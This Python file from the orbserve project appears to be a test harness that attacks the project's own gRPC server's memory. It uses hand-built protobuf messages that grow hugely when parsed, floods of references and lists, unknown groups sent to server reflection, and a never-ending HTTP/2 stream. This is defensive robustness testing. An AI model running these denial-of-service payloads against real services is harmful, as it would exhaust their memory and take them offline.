# SPDX-FileCopyrightText: 2026 The orbserve authors
# SPDX-License-Identifier: Apache-2.0
"""Attacks on the server's memory: references, and messages that take far more memory than they have bytes.

Each function attacks the server at `address` until `end` (time.monotonic()); `scale` multiplies the calls. Returns what it
has done, for the report. Messages are written byte by byte, as no protobuf library would write them.
"""

import collections
import itertools
import struct
import threading
import time

import grpc

import http2

SERVICE = "/orbserve.v1.Features/"
OPTIONS = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1),
           ("grpc.use_local_subchannel_pool", 1)]
MESSAGE_BYTES = 63 << 20
GREY8 = 2


def varint(number):
    out = bytearray()
    while number > 127:
        out.append(number & 127 | 128)
        number >>= 7
    out.append(number)
    return bytes(out)


def number(field, value):
    return varint(field << 3) + varint(value)


def block(field, data):
    """A field with a length: bytes, a text, a message or packed numbers."""
    return varint(field << 3 | 2) + varint(len(data)) + data


def grey_frame(width, height, pixels=None):
    if pixels is None:
        pixels = bytes(width * height)
    return number(1, GREY8) + number(2, width) + number(3, height) + block(15, pixels)


def features(rows):
    """A FeatureSet with descriptors of four bytes."""
    return block(1, bytes(4 * rows)) + block(2, bytes(4 * rows)) + number(8, 4) + block(15, bytes(4 * rows))


def channel_to(address):
    return grpc.insecure_channel(address, options=OPTIONS)


def unary(channel, method):
    return channel.unary_unary(SERVICE + method, lambda data: data, lambda data: data)


def stream(channel):
    return channel.stream_stream(SERVICE + "StreamFrames", lambda data: data, lambda data: data)


class Outcomes:
    """Counts how calls end, and how long the longest took."""

    def __init__(self):
        self.counts, self.longest_s, self.lock = collections.Counter(), 0.0, threading.Lock()

    def call(self, function):
        begin = time.monotonic()
        try:
            function()
            code = "OK"
        except grpc.RpcError as error:
            code = error.code().name
        with self.lock:
            self.counts[code] += 1
            self.longest_s = max(self.longest_s, time.monotonic() - begin)
        return code

    def report(self):
        return {**self.counts, "longest_s": round(self.longest_s, 2)}


def put_references(address, count, end, client_of, rows=1):
    """Puts up to `count` references, in half of the time. `client_of(i)`: the client of number i."""
    end -= (end - time.monotonic()) / 2
    content = block(14, features(rows))
    outcomes = Outcomes()
    with channel_to(address) as channel:
        put = unary(channel, "PutReference")
        in_flight = collections.deque()
        for i in range(count):
            if time.monotonic() > end:
                break
            in_flight.append(put.future(block(1, b"reference %06d" % i) + content,
                                        metadata=[("x-client-id", client_of(i))]))
            if len(in_flight) >= 200:
                outcomes.call(in_flight.popleft().result)
        while in_flight:
            outcomes.call(in_flight.popleft().result)
    return outcomes


def in_threads(count, function):
    threads = [threading.Thread(target=function, args=(i,)) for i in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def list_flood(address, end, scale):
    """Many lists of many references at a time, whose answers are not read at once."""
    names = put_references(address, 10_000 * scale, end, lambda i: "hoarder")
    outcomes = Outcomes()
    with channel_to(address) as channel:
        lists = unary(channel, "ListReferences")
        while time.monotonic() < end:
            calls = [lists.future(b"", metadata=[("x-client-id", "hoarder")]) for _ in range(200)]
            for call in calls:
                outcomes.call(call.result)
    return {"names": sum(names.counts.values()), **outcomes.report()}


def eviction(address, end, scale):
    """Fills the store with tiny references of as many clients, then puts large ones, for which many make room."""
    names = put_references(address, 10_000 * scale, end, lambda i: "client %d" % i)
    outcomes = Outcomes()
    content = block(14, features(300_000 // 3))
    with channel_to(address) as channel:
        put = unary(channel, "PutReference")
        for i in itertools.count():
            if time.monotonic() > end:
                break
            outcomes.call(lambda: put(block(1, b"map %d" % i) + content, metadata=[("x-client-id", "mapper")]))
    return {"names": sum(names.counts.values()), **outcomes.report()}


def wire_flood(make, method):
    """Sends the message of `make(bytes)` again and again on a few connections."""

    def attack(address, end, scale):
        message = make(MESSAGE_BYTES)
        outcomes = Outcomes()

        def run(i):
            while time.monotonic() < end:
                with channel_to(address) as channel:
                    if method == "StreamFrames":
                        outcomes.call(lambda: list(stream(channel)(iter([message]), timeout=30)))
                    else:
                        outcomes.call(lambda: unary(channel, method)(message, timeout=30))

        in_threads(2 * scale, run)
        return {"mb": len(message) >> 20, **outcomes.report()}

    return attack


def repeat(data, length):
    return data * (length // len(data))


# StreamOpen.references: two bytes on the wire, an object of 32 and its place in a list in memory.
empty_strings = wire_flood(lambda length: block(1, repeat(block(5, b""), length)), "StreamFrames")
# Groups of a number that no message has.
unknown_groups = wire_flood(lambda length: repeat(varint(100 << 3 | 3) + varint(100 << 3 | 4), length), "Extract")
unknown_groups_in_stream = wire_flood(
    lambda length: repeat(varint(100 << 3 | 3) + varint(100 << 3 | 4), length), "StreamFrames")
unknown_numbers = wire_flood(lambda length: repeat(number(15 << 2, 1), length), "PutReference")
# The fields of a oneof in turn: each takes the place of the other, and all stay on the arena.
alternating_oneof = wire_flood(lambda length: repeat(block(14, b"") + block(15, b""), length), "PutReference")
# Packed numbers of one byte that take four.
packed_numbers = wire_flood(lambda length: block(13, block(6, bytes(length))), "Match")
def reflection_groups(address, end, scale):
    """Unknown groups for gRPC's server reflection."""
    message = repeat(varint(100 << 3 | 3) + varint(100 << 3 | 4), MESSAGE_BYTES)
    outcomes = Outcomes()
    with channel_to(address) as channel:
        ask = channel.stream_stream("/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo",
                                    lambda data: data, lambda data: data)
        while time.monotonic() < end:
            outcomes.call(lambda: list(ask(iter([message]), timeout=30)))
    return outcomes.report()


nested_pipelines = wire_flood(lambda length: repeat(block(1, block(2, b"") + block(3, b"")), length), "Extract")


class Unfinished:
    """A connection with one call whose message is announced with 90 MB and never ends. It obeys flow control."""

    ANNOUNCED = 90 << 20
    CHUNK = 16384

    def __init__(self, address):
        self.socket = http2.connect_http2(address)
        self.socket.sendall(http2.frame(http2.HEADERS, http2.END_HEADERS, 1, http2.call_headers(SERVICE + "Extract")))
        self.socket.setblocking(False)
        self.windows = [65535, 65535]  # of the connection, of the stream
        self.left = self.ANNOUNCED - 5
        self.sent = 0
        self.received, self.pending = b"", b""
        self.first = b"\x00" + struct.pack(">I", self.ANNOUNCED)
        self.is_closed = False

    def step(self):
        try:
            self.read()
            while not self.is_closed:
                if not self.pending:
                    count = min(self.CHUNK, self.left, *self.windows)
                    if count < 1000:
                        return
                    data = self.first + bytes(count - len(self.first))
                    self.first = b""
                    self.pending = http2.frame(http2.DATA, 0, 1, data)
                    self.windows = [window - count for window in self.windows]
                    self.left -= count
                done = self.socket.send(self.pending)
                self.sent += done
                self.pending = self.pending[done:]
        except BlockingIOError:
            return
        except OSError:
            self.is_closed = True

    def read(self):
        try:
            data = self.socket.recv(1 << 16)
        except BlockingIOError:
            return
        self.is_closed = self.is_closed or not data
        self.received += data
        while len(self.received) >= 9:
            length = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + length:
                return
            kind, flags, number_of_stream = self.received[3], self.received[4], self.received[8]
            payload, self.received = self.received[9:9 + length], self.received[9 + length:]
            if kind == http2.WINDOW_UPDATE:
                self.windows[min(number_of_stream, 1)] += int.from_bytes(payload, "big")
            elif kind == http2.SETTINGS and not flags & http2.ACK:
                for at in range(0, length, 6):
                    key, value = struct.unpack(">HI", payload[at:at + 6])
                    if key == 4:
                        self.windows[1] += value - 65535
            elif kind == http2.PING and not flags & http2.ACK:
                self.socket.send(http2.frame(http2.PING, http2.ACK, 0, payload))
            elif kind in (http2.RST_STREAM, http2.GOAWAY):
                self.is_closed = True


def large_burst(address, end, scale):
    """A burst of the largest frames, whose memory must come back."""
    message = block(15, grey_frame(8192, 8192))
    outcomes = Outcomes()

    def run(i):
        with channel_to(address) as channel:
            extract = unary(channel, "Extract")
            for _ in range(8 * scale):
                if time.monotonic() > end:
                    break
                outcomes.call(lambda: extract(message, metadata=[("x-client-id", "burst %d" % i)], timeout=60))

    in_threads(8, run)
    return outcomes.report()
